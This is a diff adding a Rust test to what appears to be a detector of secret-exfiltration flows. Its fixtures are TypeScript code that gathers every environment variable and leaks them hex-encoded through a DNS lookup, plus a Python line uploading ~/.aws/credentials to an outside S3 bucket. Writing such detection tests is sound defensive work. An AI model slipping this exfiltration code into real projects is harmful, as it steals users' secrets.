@@ -381,6 +381,23 @@ fn secrets_sent_in_a_dns_lookup_are_flows() {
 }
 
 #[test]
+fn a_typescript_module_imported_by_its_compiled_js_name_is_followed() {
+    let collect = "export function fingerprint(): Record<string, string> {\n\
+                   const out: Record<string, string> = {};\n\
+                   for (const [k, v] of Object.entries(process.env)) { if (v) out[k] = v; }\n\
+                   return out;\n}\n";
+    let send = "import { promises as dns } from \"node:dns\";\nimport { fingerprint } from \"../env/collect.js\";\n\
+                export async function warmup() {\n\
+                const fp = Buffer.from(JSON.stringify(fingerprint())).toString(\"hex\");\n\
+                await dns.resolveTxt(`${fp}.h.invalid`);\n}\n";
+    let out = flows(&[("src/env/collect.ts", collect), ("src/resolver/cache.ts", send)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 5);
+    // The same import with no such file beside it is nothing.
+    assert!(flows(&[("src/env/other.ts", collect), ("src/resolver/cache.ts", send)]).is_empty());
+}
+
+#[test]
 fn a_credential_file_uploaded_by_path_to_a_bucket_is_a_flow() {
     let py = "import os, boto3\ns3 = boto3.client('s3')\n\
               s3.upload_file(os.path.expanduser('~/.aws/credentials'), 'bucket-of-someone', 'c')\n\
